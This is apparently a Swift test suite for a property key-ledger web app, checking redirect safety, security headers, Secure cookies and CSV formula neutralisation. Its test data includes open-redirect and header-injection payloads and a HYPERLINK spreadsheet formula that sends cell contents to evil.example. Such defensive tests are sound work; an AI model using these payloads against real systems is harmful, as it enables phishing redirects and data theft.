@testable import App
import Fluent
import Foundation
import Testing
import Vapor

/// Redirects stay on this site, every response carries the security headers
/// a strict browser policy needs, cookies are Secure over HTTPS, and
/// spreadsheet exports never carry a formula.
@Suite("Security")
struct SecurityTests {
    static let offSite = ["/\\evil.example/", "/\t/evil.example/", "//evil.example/", "/%5Cevil.example/", "/%2F%2Fevil.example/",
                          "https://evil.example/", "javascript:alert(1)", "/\u{0}/evil", " /keys", "/\\/evil.example", "/keys\r\nSet-Cookie: x=1"]

    @Test("Redirect targets are paths of this site, parsed, not prefix-checked")
    func safeRedirectPaths() {
        for target in Self.offSite { #expect(SafeRedirect.path(target) == "/", "\(target.debugDescription)") }
        for target in ["/", "/keys", "/properties/3F2E/keys?status=out&q=%E9%92%A5", "/notifications#top"] {
            #expect(SafeRedirect.path(target) == target)
        }
    }

    @Test("Sign-in and the language switch never send anyone to another host", arguments: TestDatabase.selected)
    func redirects(database: TestDatabase) async throws {
        try await withApp(database) { t in
            for target in Self.offSite {
                let session = PageSession(t)
                _ = try await session.get("/login")
                let signedIn = try await session.post("/login", ["username": "kf.lingban", "password": DemoData.password, "next": target])
                #expect(signedIn.status == .seeOther)
                #expect(signedIn.headers.first(name: .location) == "/", "next=\(target.debugDescription) → \(signedIn.headers.first(name: .location) ?? "")")
                let encoded = target.addingPercentEncoding(withAllowedCharacters: .alphanumerics)!
                let switched = try await t.request(.GET, "/language/en?back=\(encoded)")
                #expect(switched.headers.first(name: .location) == "/", "back=\(target.debugDescription)")
            }
            let session = PageSession(t)
            _ = try await session.get("/login")
            let signedIn = try await session.post("/login", ["username": "kf.lingban", "password": DemoData.password, "next": "/notifications"])
            #expect(signedIn.headers.first(name: .location) == "/notifications")
        }
    }

    @Test("Every response carries a strict Content-Security-Policy, frame, sniffing and referrer headers; pages have no inline script, style or handler", arguments: TestDatabase.selected)
    func headers(database: TestDatabase) async throws {
        try await withApp(database) { t in
            let session = try await PageSession.signIn(t, as: "kf.lingban")
            let zc = try await t.property("ZC")
            let key = try await t.idleKey()
            var replies: [(String, TestApp.Reply)] = []
            for path in ["/properties/\(zc.id!)/keys", "/keys/\(key.id!)", "/keys/\(key.id!)/issue", "/properties/\(zc.id!)/ledger?print=1",
                         "/notifications", "/account", "/no-such-page"] {
                replies.append((path, try await session.get(path)))
            }
            replies.append(("/login", try await t.request(.GET, "/login")))
            replies.append(("/api/v1/me", try await t.api(.GET, "/me", as: "kf.lingban")))
            replies.append(("/api/v1/me (401)", try await t.api(.GET, "/me")))
            replies.append(("/static/app.css", try await t.request(.GET, "/static/app.css")))
            replies.append(("/healthz", try await t.request(.GET, "/healthz")))
            for (path, reply) in replies {
                let csp = reply.headers.first(name: "Content-Security-Policy") ?? ""
                #expect(csp.contains("default-src 'none'") && csp.contains("script-src 'self'") && csp.contains("frame-ancestors 'none'"), "\(path): \(csp)")
                #expect(!csp.contains("unsafe-inline"), "\(path)")
                #expect(reply.headers.first(name: "X-Frame-Options") == "DENY", "\(path)")
                #expect(reply.headers.first(name: "X-Content-Type-Options") == "nosniff", "\(path)")
                #expect(reply.headers.first(name: "Referrer-Policy") == "same-origin", "\(path)")
                #expect(reply.headers.first(name: .strictTransportSecurity) == nil, "\(path): no HSTS over plain HTTP")
                guard reply.headers.contentType?.subType == "html" else { continue }
                let html = reply.text
                #expect(html.range(of: #"<script(?![^>]*\bsrc=)"#, options: .regularExpression) == nil, "\(path) has an inline script")
                #expect(html.range(of: #"\sstyle=""#, options: .regularExpression) == nil, "\(path) has an inline style")
                #expect(html.range(of: #"\son[a-z]+=""#, options: .regularExpression) == nil, "\(path) has an inline handler")
                #expect(!html.contains("javascript:"), "\(path) has a javascript: URL")
                #expect(!html.contains("<style"), "\(path) has a style element")
            }
            // Cookies are not Secure over plain HTTP (they would never come back)…
            let plain = PageSession(t)
            _ = try await plain.get("/login")
            let signIn = try await plain.post("/login", ["username": "kf.lingban", "password": DemoData.password])
            #expect(signIn.headers[.setCookie].allSatisfy { !$0.contains("Secure") })
        }
    }

    @Test("Behind HTTPS the session cookie is Secure and HSTS is sent; a trusted proxy may say the request came over HTTPS, anyone else may not", arguments: TestDatabase.selected)
    func secureCookies(database: TestDatabase) async throws {
        try await withApp(database) { t in
            t.app.deployment.trustedProxies = ["127.0.0.1"]
            let forwarded = try await t.request(.GET, "/login", headers: ["X-Forwarded-Proto": "https"])
            #expect(!forwarded.headers[.setCookie].isEmpty)
            #expect(forwarded.headers[.setCookie].allSatisfy { $0.contains("Secure") })
            t.app.deployment.trustedProxies = ["10.0.0.1"]
            let spoofed = try await t.request(.GET, "/login", headers: ["X-Forwarded-Proto": "https"])
            #expect(spoofed.headers[.setCookie].allSatisfy { !$0.contains("Secure") })

            t.app.deployment.publicURL = URL(string: "https://wuye.example.com")
            let session = PageSession(t)
            _ = try await session.get("/login")
            let signedIn = try await session.post("/login", ["username": "kf.lingban", "password": DemoData.password])
            #expect(signedIn.headers[.setCookie].contains { $0.hasPrefix("wuye_session=") && $0.contains("Secure") && $0.contains("HttpOnly") })
            #expect(signedIn.headers.first(name: .strictTransportSecurity) == "max-age=31536000")
        }
    }

    @Test("X-3: a spreadsheet cell is neutralised before it is quoted: no formula survives, quoted or not")
    func csvCells() {
        #expect(CSV.cell("=1+2") == "'=1+2")
        #expect(CSV.cell("@SUM(1,2)") == "\"'@SUM(1,2)\"")
        #expect(CSV.cell(#"=HYPERLINK("http://evil.example/?x="&A1,"ok")"#) == #""'=HYPERLINK(""http://evil.example/?x=""&A1,""ok"")""#)
        #expect(CSV.cell("+86 139") == "'+86 139")
        #expect(CSV.cell("-2") == "'-2")
        #expect(CSV.cell("\tcmd") == "'\tcmd")
        #expect(CSV.cell("\rcmd") == "\"'\rcmd\"")
        #expect(CSV.cell("维修,漏水") == "\"维修,漏水\"")
        #expect(CSV.cell("普通") == "普通")
        #expect(CSV.cell(nil) == "")
        #expect(CSV.row(["a", "=b"]) == "a,'=b\r\n")
    }

    @Test("X-3: a formula typed into the ledger comes out of the export as text", arguments: TestDatabase.selected)
    func csvExport(database: TestDatabase) async throws {
        try await withApp(database) { t in
            let key = try await t.idleKey()
            let formula = #"=HYPERLINK("http://evil.example/?x="&A1,"ok")"#
            let issued = try await t.api(.POST, "/keys/\(key.id!)/checkouts", as: "kf.lingban", json: [
                "borrowerKind": "outsider", "borrowerName": "@林工", "borrowerPhone": "13987654321", "borrowerIDNumber": "440104198505052345",
                "borrowerCompany": formula, "purpose": "-验房", "expectedReturnAt": inHours(2), "signature": DemoData.demoSignature])
            #expect(issued.status == .created, "\(issued.text)")
            let session = try await PageSession.signIn(t, as: "kf.lingban")
            let csv = try await session.get("/properties/\(try await t.property("ZC").id!)/ledger.csv").text
            #expect(csv.contains(#""'=HYPERLINK(""http://evil.example/?x=""&A1,""ok"")""#))
            #expect(csv.contains(",'@林工,"))
            #expect(csv.contains(",'-验房,"))
            for line in csv.split(separator: "\r\n") {
                for cell in line.split(separator: ",") {
                    let text = cell.hasPrefix("\"") ? cell.dropFirst() : cell
                    #expect(!"=+-@".contains(text.first ?? " "), "a cell starts a formula: \(cell)")
                }
            }
        }
    }
}
